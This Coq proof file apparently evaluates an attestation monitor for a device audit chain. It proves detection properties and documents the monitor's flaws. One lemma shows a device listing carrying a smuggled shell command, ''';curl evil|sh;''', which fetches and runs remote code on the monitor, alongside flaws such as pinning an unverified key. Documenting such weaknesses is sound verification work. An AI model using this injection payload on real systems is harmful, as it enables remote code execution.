(* ===== verification/MonitorExamples.v ===== *)
(** * The monitor, evaluated

    A scripted device whose answers are a list, a collector that runs the model of
    verify-audit, and what the monitor makes of them: the witnesses of the theorems, and the
    situations in which it does not do what it says. *)
From Stdlib Require Import ZArith Lia Ascii String.
From stdpp Require Import base tactics numbers option strings list gmap sorting.
From S2P Require Import Prelude Maps Bytes Sha256 Json Control Broker Verify AuditLog NetIP VerifyCmd.
From S2P Require Import AuditFiles ChainProps Monitor MonitorTurns MonitorProps MonitorHistory MonitorCollector.
#[local] Open Scope string_scope.
#[local] Open Scope list_scope.
#[local] Open Scope Z_scope.

(** ** A scripted world *)

(** The answers to come and the shell commands run so far. *)
Record script := Script { answers : list (result bytes bytes); commands : list bytes }.

Definition sh (cmd : bytes) (w : script) : result bytes bytes * script :=
  match answers w with
  | [] => (Err (B "exit status 255"), Script [] (commands w ++ [cmd]))
  | a :: rest => (a, Script rest (commands w ++ [cmd]))
  end.
#[local] Instance script_transport : Transport script := shellTransport sh.

(** A host on which only saving may fail. *)
Definition script_host (writable : bool) : Host script := {|
  WriteFile _ _ w := (None, w); MkdirAll _ w := (Ok ∅, w); Now w := (1000, w);
  nonceHex w := (EncodeToString (replicate 32 (byte_of 9)), w); MkdirTemp w := (B "/tmp/bh", w);
  state_readable _ w := (true, w); state_saved _ w := (writable, w) |}.
#[local] Instance good_host : Host script := script_host true.

#[local] Instance good_durable : Durable script.
Proof. split; reflexivity. Qed.

(** The collector: verify-audit runs as modelled, the attest commands accept everything. *)
Definition ed (_ m sig : bytes) : bool := toy_verify tt m sig.
Definition audit_env (dom : option bytes) (fs : dir) (chain : bytes) : cmd_env :=
  CmdEnv (default [] dom) (Some (replicate 32 (byte_of 1))) (fun s => s) None (fun _ => None)
    (fun c => (segment_files (live_name c) fs, open_file fs (live_name c))).

Definition collector_exec {W} (args : list bytes) (dom : option bytes) (fs : dir) (w : W) : (bytes * option bytes) * W :=
  match args with
  | cmd :: chain :: args =>
      if bool_decide (cmd = B "verify-audit") then
        let e := audit_env dom fs chain in
        match cmdVerifyAudit UnmarshalStrict ed e (chain :: args) with
        | Verified vd r t true =>
            if bool_decide (tipFromVerifyOutput (ok_words chain (chainDomain e chain) FromSeed vd) = [])
            then ((audit_text chain (chainDomain e chain) FromSeed vd r t, None), w)
            else (([], Some (B "exit status 1")), w)
        | _ => (([], Some (B "exit status 1")), w)
        end
      else ((EncodeToString (replicate 16 (byte_of 7)), None), w)
  | _ => (([], Some (B "exit status 2")), w)
  end.

#[export] Instance collector_exec_runs {W} : RunsCollector (W := W) collector_exec UnmarshalStrict ed.
Proof.
  intros chain args dom fs w out w'. unfold collector_exec. rewrite bool_decide_true by reflexivity. cbv zeta.
  destruct (cmdVerifyAudit _ _ _ _) as [| | | | |vd r t []] eqn:E; try discriminate.
  case_bool_decide as Hq; [|discriminate]. intros [= <- <-].
  exists (audit_env dom fs chain), vd, r, t, FromSeed, []. split_and!; [by intros d ->|reflexivity|exact E|reflexivity|exact Hq].
Qed.

#[local] Instance script_verifier : Verifier script := collectorVerifier collector_exec (B "bulkhead-collector").

(** One device with one chain. *)
Definition box_chain : Chain := MkChain (B "collector") (B "/data/bulkhead/audit/provenance.jsonl") (B "head_collector_hex").
Definition box_device : Device :=
  MkDevice (B "appliance-01") (B "ssh box quote {nonce}") (B "ssh box 'cat {chain}'") (B "ssh box 'ls -1 {chain}.[0-9]*'")
    (EncodeToString zeroHash) [] [] [box_chain].
Definition config2 : Config := MkConfig 300 2 (B "/var/lib/mon") (B "bulkhead-collector") [box_device].
Definition no_heads (_ : bytes) : quoteEnvelope := no_envelope.

(** The answers of a device that serves the directory [fs], with a quote or without. *)
Definition seg_path (n : Z) : bytes := B "/data/bulkhead/audit/" ++ B (segmentName a_log n).
Definition listing (fs : dir) : bytes := listSegments a_log fs ≫= fun n => seg_path n ++ [newline].
Definition serve (quote : result bytes bytes) (fs : dir) : list (result bytes bytes) :=
  [quote; Ok (listing fs)] ++ ((fun n => Ok (contents (segmentName a_log n) fs)) <$> listSegments a_log fs)
  ++ [Ok (contents a_log fs); Ok (listing fs)].

Definition polls (n : nat) (answers : list (result bytes bytes)) :=
  cycles no_heads config2 box_device n ∅ (Script answers []).
Definition alerts_of (r : list (list Alert * deviceState) * store * script) : list (list alert_kind) :=
  (fun p : list Alert * deviceState => Kind <$> p.1) <$> r.1.1.

(** Two polls of the chain of [ChainProps], then one in which it is served as it was before. *)
Example a_rewind_is_reported :
  alerts_of (polls 3 (serve (Ok (B "{}")) early_1 ++ serve (Err (B "down")) later_1 ++ serve (Ok (B "{}")) early_1))
  = [[]; []; [ChainRewindOrFail]].
Proof. vm_compute. reflexivity. Qed.

(** A device that evades for as long as it can: it answers the quote only when it also
    changes the set of segments during the fetch. *)
Definition silent : list (result bytes bytes) := [Err (B "down"); Err (B "down")].
Definition churning : list (result bytes bytes) := [Ok (B "{}"); Ok []; Ok []; Ok (seg_path 1)].

Example evasion_lasts_five_polls :
  alerts_of (polls 6 (silent ++ churning ++ silent ++ churning ++ silent ++ churning)) = [[]; []; []; []; []; [ChainFetchUnstable]]
  /\ alerts_of (polls 6 (silent ++ churning ++ silent ++ churning ++ silent ++ silent)) = [[]; []; []; []; []; [MissedAttestation]].
Proof. vm_compute. auto. Qed.

Lemma witness_not_evadable_witness :
  Exists (fun r => r.1 <> [] \/ verified r.2 (B "collector") = true)
    (polls 6 (silent ++ churning ++ silent ++ churning ++ silent ++ churning)).1.1.
Proof.
  destruct (polls 6 _) as [[rs s] w] eqn:E. cbn [fst].
  apply (witness_not_evadable no_heads config2 box_device box_chain 6 ∅ _ rs s w) in E; [exact E|..].
  - apply NoDup_singleton.
  - apply list_elem_of_singleton. reflexivity.
  - vm_compute. discriminate.
  - vm_compute. discriminate.
  - vm_compute. discriminate.
  - vm_compute. discriminate.
Defined.

(** A poll of a device that quotes and serves its chain, with a key pinned before. *)
Definition known_state : deviceState := MkState (EncodeToString (replicate 16 (byte_of 7))) ∅ 0 0 None.
Definition good_poll : list Alert * deviceState * script :=
  pollDevice no_heads config2 box_device (EncodeToString (replicate 32 (byte_of 9))) 1000 (B "/tmp/bh") known_state
    (Script (serve (Ok (B "{}")) early_1) []).

Lemma poll_accounts_for_device_witness : AKPinHex known_state <> [] /\ AKPinHex good_poll.1.2 = AKPinHex known_state.
Proof.
  split; [discriminate|]. destruct good_poll as [[alerts st] w] eqn:E.
  exact (proj1 (poll_accounts_for_device no_heads config2 box_device (EncodeToString (replicate 32 (byte_of 9))) 1000 (B "/tmp/bh")
    known_state (Script (serve (Ok (B "{}")) early_1) []) alerts st w (NoDup_singleton _) E) ltac:(discriminate)).
Defined.

Example good_poll_verifies : good_poll.1.1 = [] /\ LastOK good_poll.1.2 = 1000 /\ pin good_poll.1.2 (B "collector") <> [].
Proof. vm_compute. split_and!; [reflexivity..|discriminate]. Qed.

(** ** The histories of two polls *)
Definition two_polls : list (result bytes bytes) := serve (Err (B "down")) early_1 ++ serve (Err (B "down")) later_1.
Definition observed_run := cycles no_heads config2 box_device 2 ∅ (Script two_polls [], []).

Definition seen_bodies : list nat :=
  Eval vm_compute in length <$> (bodies_of UnmarshalStrict <$> passes (B "collector") (calls observed_run.2)).

Lemma verified_chains_are_one_history_witness :
  seen_bodies = [2; 2]%nat
  /\ exists cs, calls observed_run.2 = [] ++ cs
    /\ ((exists hist, one_history hist (bodies_of UnmarshalStrict <$> passes (B "collector") cs))
        \/ broken_hash UnmarshalStrict (B "collector") (passes (B "collector") cs)).
Proof.
  split; [reflexivity|]. destruct observed_run as [[rs s] w] eqn:E. cbn [snd].
  assert (@ChainVerifier (script * list call) observe_verifier UnmarshalStrict ed) as HV.
  { intros fs path pub d since tip [w0 cs0] t w1. cbn.
    destruct (collector_chain _ _ _ _ _ _ _ _) as [r w2] eqn:Ev. intros [= -> <-] Hd.
    exact (collector_keeps_promise collector_exec (B "bulkhead-collector") UnmarshalStrict ed collector_exec_runs
             fs path pub d since tip w0 t w2 Ev Hd). }
  assert (Durable (script * list call)) as HD by (split; reflexivity).
  exact (verified_chains_are_one_history UnmarshalStrict ed no_heads (B "collector") ltac:(vm_compute; reflexivity)
           ltac:(discriminate) config2 box_device 2 ∅ (Script two_polls [], []) rs s w (NoDup_singleton _) E).
Defined.

(** ** Where the monitor does not do what it says *)

(** A path of the device's listing is checked by its last element only and substituted into
    a command for [sh -c]: a device runs commands on the monitor. *)
Definition hostile_listing : bytes := B "';curl evil|sh;'/provenance.jsonl.000002".

Lemma listing_runs_commands_on_the_monitor :
  commands (polls 1 [Err (B "down"); Ok hostile_listing]).2
  = [B "ssh box quote " ++ EncodeToString (replicate 32 (byte_of 9));
     B "ssh box 'ls -1 /data/bulkhead/audit/provenance.jsonl.[0-9]*'";
     B "ssh box 'cat ';curl evil|sh;'/provenance.jsonl.000002'"].
Proof. vm_compute. reflexivity. Qed.

(** Enrolment reports success although the first quote did not verify: the key is pinned
    before the quote is checked. *)
Definition unverifiable_exec {W} (args : list bytes) (dom : option bytes) (fs : dir) (w : W) : (bytes * option bytes) * W :=
  if bool_decide (args !! 1%nat = Some (B "verify")) then ((B "attest verify: FAIL", Some (B "exit status 1")), w)
  else collector_exec args dom fs w.

Lemma enrolment_pins_an_unverified_key :
  let r := (runEnroll (v := collectorVerifier unverifiable_exec (B "bulkhead-collector")) no_heads config2 ∅
              (Script [Ok (B "{}"); Err (B "down")] [])).1.1 in
  r.1 = 0
  /\ (fun x => (Failed x, AKPin x, Kind <$> r_alerts x)) <$> r.2
     = [(false, EncodeToString (replicate 16 (byte_of 7)), [QuoteVerifyFailed; FetchFailed])].
Proof. vm_compute. auto. Qed.

(** When the state cannot be saved the counters start from zero in every poll: a silent
    device is never reported, with any threshold above one. *)
Lemma unsaved_state_hides_silence T n :
  1 < T ->
  let cfg := MkConfig 300 T (B "/var/lib/mon") (B "bulkhead-collector") [box_device] in
  forall cmds, Forall (fun r => r.1 = []) (cycles (h := script_host false) no_heads cfg box_device n ∅ (Script [] cmds)).1.1.
Proof.
  intros HT cfg. induction n as [|n IH]; intros cmds; [constructor|]. cbn [cycles].
  assert (exists st cmds', cycle (h := script_host false) no_heads cfg box_device ∅ (Script [] cmds) = ([], st, ∅, Script [] cmds'))
    as (st & cmds' & ->).
  { unfold cycle, loadState, pollDevice, attestPoll. cbn -[Z.leb]. rewrite lookup_empty. cbn -[Z.leb].
    rewrite (proj2 (Z.leb_gt T (0 + 1))) by lia. eexists _, _. reflexivity. }
  specialize (IH cmds'). destruct (cycles _ _ _ n _ _) as [[rs s] w]. cbn [fst] in *. by constructor.
Qed.

(** A state file that does not parse is no state: the next poll pins whatever is served. *)
Lemma damaged_state_is_forgotten cfg dev :
  kept cfg dev (<[stateFile (StateDir cfg) (Name dev) := Damaged fresh_state]> ∅) = kept cfg dev ∅.
Proof. unfold kept. by rewrite lookup_insert_eq, lookup_empty. Qed.

(** Of two devices with one name only the second is ever polled, once per mention. *)
Lemma repeated_name_is_not_polled a b cfg s (w : script) :
  Name a = Name b -> Devices cfg = [a; b] ->
  runOnce no_heads cfg s w = run_names no_heads (MkConfig (IntervalSeconds cfg) (MissedThreshold cfg) (StateDir cfg) (CollectorBin cfg) [b])
    [Name b; Name b] s w.
Proof.
  intros Hn Hd. unfold runOnce. rewrite Hd. cbn [fmap list_fmap]. rewrite Hn.
  assert (merge_sort bytes_le [Name b; Name b] = [Name b; Name b]) as ->.
  { unfold merge_sort. cbn. case_decide; reflexivity. }
  revert s w. generalize [Name b; Name b] as names. intros names.
  induction names as [|n names IH]; intros s w; [done|]. cbn [run_names]. rewrite Hd. cbn [byName Devices]. rewrite Hn.
  destruct (bool_decide (Name b = n)); [|apply IH].
  replace (cycle no_heads cfg b s w) with (cycle no_heads
    (MkConfig (IntervalSeconds cfg) (MissedThreshold cfg) (StateDir cfg) (CollectorBin cfg) [b]) b s w) by done.
  destruct (cycle _ _ _ _ _) as [[[a1 st] s1] w1]. by rewrite IH.
Qed.
